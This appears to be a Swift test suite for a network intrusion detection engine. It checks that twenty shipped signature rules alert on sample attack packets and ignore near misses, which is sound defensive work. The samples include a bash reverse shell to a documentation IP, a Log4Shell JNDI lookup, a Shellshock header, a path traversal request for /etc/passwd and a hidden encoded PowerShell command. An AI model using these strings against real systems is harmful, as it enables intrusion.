// SPDX-License-Identifier: Apache-2.0
import BeltwayDetect
import FoundationEssentials
import Testing

/// One rule with a packet that it must alert on and a near miss that no shipped rule may alert on.
private struct Case: CustomTestStringConvertible {
    var sid: UInt32
    var hit: TestPacket
    var miss: TestPacket
    var testDescription: String { "rule \(sid)" }

    init(_ sid: UInt32, _ hit: TestPacket, not miss: TestPacket) {
        self.sid = sid
        self.hit = hit
        self.miss = miss
    }
}

private let eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

private func dns(_ name: [String], flags: [UInt8] = [1, 0], padding: Int = 0) -> [UInt8] {
    var bytes: [UInt8] = [0x12, 0x34] + flags + [0, 1, 0, 0, 0, 0, 0, 0]
    for label in name { bytes += [UInt8(label.utf8.count)] + Array(label.utf8) }
    return bytes + [0, 0, 1, 0, 1] + [UInt8](repeating: 0x41, count: padding)
}

private func answer(_ type: String, _ body: String) -> TestPacket {
    .tcp("HTTP/1.1 200 OK\r\nContent-Type: \(type)\r\n\r\n" + body, from: 80, to: 40_000, toServer: false)
}

private let program = "MZ\u{1}\u{2}  !This program cannot be run in DOS mode.\r\r\n"
private let encoded = String(repeating: "SQBFAFgA", count: 6)

private let cases: [Case] = [
    Case(1_000_001, answer("text/plain", eicar), not: answer("text/plain", String(eicar.dropLast(1)))),
    Case(1_000_002, .tcp("PASS secret\r\n", to: 21), not: .tcp("PASS anonymous@example.com\r\n", to: 21)),
    Case(
        1_000_003,
        .tcp("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dTpwYXNzd29yZA==\r\n\r\n"),
        not: .tcp("GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer dTpwYXNzd29yZA==\r\n\r\n")
    ),
    Case(
        1_000_004,
        .tcp("Password: ", from: 23, to: 40_000, toServer: false),
        not: .tcp("Last login: today", from: 23, to: 40_000, toServer: false)
    ),
    Case(1_000_005, .tcp("PASS secret\r\n", to: 110), not: .tcp("APOP mrose c4c9334b\r\n", to: 110)),
    Case(
        1_000_006,
        .tcp(
            [0, 0, 0, 0x54, 0xff] + Array("SMBr".utf8) + [0, 0] + Array("\u{2}NT LM 0.12\0".utf8),
            to: 445
        ),
        not: .tcp([0, 0, 0, 0x54, 0xfe] + Array("SMB@".utf8) + [0, 0], to: 445)
    ),
    Case(1_000_007, .tcp("SSH-1.5-old\n", to: 22), not: .tcp("SSH-1.99-OpenSSH_3.9\n", to: 22)),
    Case(
        1_000_008,
        .tcp([0x16, 3, 0, 0, 0x4a, 2, 0, 0, 0x46, 3, 0, 1, 2, 3], from: 443, to: 40_000, toServer: false),
        not: .tcp(
            [0x16, 3, 3, 0, 0x4a, 2, 0, 0, 0x46, 3, 3, 1, 2, 3],
            from: 443,
            to: 40_000,
            toServer: false
        )
    ),
    Case(
        1_000_009,
        .tcp("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"),
        not: .tcp("GET /?q=what+is+jndi:ldap HTTP/1.1\r\n\r\n")
    ),
    Case(
        1_000_010,
        .tcp("GET /cgi/../../../etc/passwd HTTP/1.1\r\n\r\n"),
        not: .tcp("GET /docs/etc/passwd.html HTTP/1.1\r\n\r\n")
    ),
    Case(
        1_000_011,
        .tcp("GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/ping -c1 192.0.2.1\r\n\r\n"),
        not: .tcp("POST /s.js HTTP/1.1\r\n\r\nvar f = function() { return 1; }")
    ),
    Case(
        1_000_012,
        .tcp([0x18, 3, 2, 0, 3, 1, 0x40, 0], to: 443),
        not: .tcp([0x18, 3, 2, 0, 0x23, 1, 0, 0x10], to: 443)
    ),
    Case(
        1_000_013,
        .tcp("uid=0(root) gid=0(root) groups=0(root)\n", from: 4_444, toServer: false),
        not: .tcp("uid=1000(me) gid=1000(me) groups=1000(me)\n", from: 4_444, toServer: false)
    ),
    Case(
        1_000_014,
        .tcp("cmd /c PowerShell.exe -nop -w hidden -enc \(encoded)"),
        not: .tcp("how to use PowerShell.exe -File script.ps1 \(encoded)")
    ),
    Case(1_000_015, answer("image/png", program), not: answer("application/x-msdownload", program)),
    Case(
        1_000_016,
        .tcp("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
        not: .tcp("ls -l /dev/tcp/ of the shell\n")
    ),
    Case(
        1_000_017,
        .udp(dns(["expyuzz4wqqyqhjn", "onion"])),
        not: .udp(dns(["expyuzz4wqqyqhjn", "example"]))
    ),
    Case(
        1_000_018,
        .udp(dns(["example", "org"], padding: 600)),
        not: .udp(dns(["example", "org"], padding: 300))
    ),
    Case(
        1_000_019,
        .icmp([UInt8](repeating: 0x61, count: 1_201)),
        not: .icmp([UInt8](repeating: 0x61, count: 1_200))
    ),
    Case(
        1_000_020,
        .tcp("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": []}\n", to: 3_333),
        not: .tcp("{\"id\": 1, \"method\": \"eth.subscribe\", \"params\": []}\n", to: 3_333)
    ),
]

private func root() -> String {
    let parts = #filePath.split(separator: "/", omittingEmptySubsequences: false)
    return parts.dropLast(3).joined(separator: "/")
}

@Suite struct `The rules that ship` {
    private let report = RuleLoader.load(paths: [root() + "/rules"])

    @Test func `load without a word of complaint`() {
        #expect(report.refused.map(\.description) == [])
        #expect(report.unreadable.isEmpty && report.disabled == 0 && report.duplicates == 0)
        #expect(report.loaded == cases.count)
    }

    @Test func `have a test each, ids of the local range and a known class`() {
        #expect(Set(report.ruleSet.signatures.map(\.id)) == Set(cases.map(\.sid)))
        for signature in report.ruleSet.signatures {
            #expect((1_000_001...1_099_999).contains(signature.id))
            #expect(!signature.category.isEmpty && signature.message.hasPrefix("BELTWAY "))
        }
    }

    @Test(arguments: cases.indices)
    func `alert on what they are for and on nothing near it`(index: Int) {
        let example = cases[index]
        var detector = Detector(report.ruleSet)
        #expect(detector.sids(example.hit) == [example.sid])
        #expect(detector.sids(example.miss) == [])
    }

    @Test func `come with the table of classes that is built in`() throws {
        let bytes = try #require(
            FileManager.default.contents(atPath: root() + "/rules/classification.config")
        )
        let (classes, bad) = RuleClasses.parse(Array(bytes))
        #expect(bad.isEmpty)
        #expect(classes == .standard)
    }
}
